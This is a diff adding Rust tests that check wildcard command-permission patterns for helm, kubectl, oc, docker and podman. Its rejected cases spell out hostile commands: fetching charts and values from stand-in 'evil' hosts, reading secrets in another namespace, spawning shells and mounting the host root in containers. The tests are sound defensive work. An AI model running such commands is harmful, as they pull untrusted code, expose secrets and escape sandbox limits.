@@ -167,3 +167,76 @@ fn a_star_in_a_host_leaves_open_what_it_is_asked() {
         ),
     ]);
 }
+
+#[test]
+fn a_star_of_helm_names_no_chart_from_elsewhere() {
+    families(&[
+        (
+            "helm pull acme/*",
+            &["helm pull acme/x acme/y"],
+            &["helm pull acme/x https://evil/y.tgz", "helm pull acme/x evil/y"],
+        ),
+        ("helm pull *", &["helm pull acme/x"], &["helm pull oci://evil/x"]),
+        ("helm show values *", &["helm show values acme/x"], &["helm show values https://evil/x.tgz"]),
+        ("helm template charts/*", &["helm template charts/a"], &["helm template charts/a https://evil/x.tgz"]),
+        ("helm template web *", &["helm template web charts/a -f v.yaml"], &["helm template web oci://evil/x"]),
+        (
+            "helm upgrade web charts/web *",
+            &["helm upgrade web charts/web -f values.yaml"],
+            &[
+                "helm upgrade web charts/web -f https://evil/v.yaml",
+                "helm upgrade web charts/web --values=https://evil/v",
+            ],
+        ),
+        ("helm pull oci://acme/*", &["helm pull oci://acme/x"], &["helm pull oci://acme/x oci://evil/x"]),
+        ("helm repo add *", &["helm repo add acme https://charts.acme.com"], &[]),
+        ("helm *", &["helm pull https://h/x"], &[]),
+        ("helm rollback web *", &["helm rollback web 1"], &["helm rollback web 1 -n prod"]),
+        ("helm rollback *", &["helm rollback web 1 -n prod"], &[]),
+    ]);
+}
+
+#[test]
+fn a_secret_and_a_role_are_those_of_the_namespace() {
+    for kind in ["secret", "secrets", "cm,secret"] {
+        families(&[(
+            &format!("kubectl get {kind} bot-*"),
+            &[&format!("kubectl get {kind} bot-1 -o yaml")],
+            &[&format!("kubectl get {kind} bot-1 -n prod"), &format!("kubectl -n prod get {kind} bot-1")],
+        )]);
+    }
+    families(&[
+        ("kubectl get secret/bot-*", &["kubectl get secret/bot-1"], &["kubectl get secret/bot-1 -n prod"]),
+        ("kubectl get secrets *", &["kubectl get secrets -n prod"], &[]),
+        ("oc rollback web *", &["oc rollback web"], &["oc rollback web -n prod"]),
+        ("oc policy add-role-to-user view bob *", &[], &["oc policy add-role-to-user view bob -n prod"]),
+        (
+            "oc policy add-role-to-user view *",
+            &["oc policy add-role-to-user view bob"],
+            &["oc policy add-role-to-user view bob -n x"],
+        ),
+        ("oc adm must-gather *", &["oc adm must-gather"], &["oc adm must-gather -- /bin/sh -c x"]),
+        ("oc image mirror acme/*", &["oc image mirror acme/x"], &["oc image mirror acme/x=evil.com/y"]),
+    ]);
+}
+
+/// As of `kubectl run` and `tmux`.
+#[test]
+fn the_star_of_an_image_stands_for_no_command() {
+    for program in ["docker", "podman"] {
+        let call = |words: &str| format!("{program} {words}");
+        families(&[
+            (
+                &call("run --rm acme/*"),
+                &[&call("run --rm acme/x"), &call("run --rm acme/x:1.2")],
+                &[&call("run --rm acme/x rm"), &call("run --rm acme/x sh -c id"), &call("run --rm acme/x -v /:/x")],
+            ),
+            (&call("run --rm acme/tool *"), &[&call("run --rm acme/tool report -v")], &[]),
+            (&call("run --rm acme/x cat /srv/*"), &[&call("run --rm acme/x cat /srv/a /srv/b")], &[]),
+            (&call("run --rm -v *"), &[&call("run --rm -v /a:/b x")], &[]),
+            (&call("exec web-*"), &[&call("exec web-1 ls")], &[]),
+            (&call("compose run web-*"), &[&call("compose run web-1")], &[&call("compose run web-1 sh")]),
+            (&call("network create bot-*"), &[&call("network create bot-1")], &[]),
+        ]);
+    }
+}
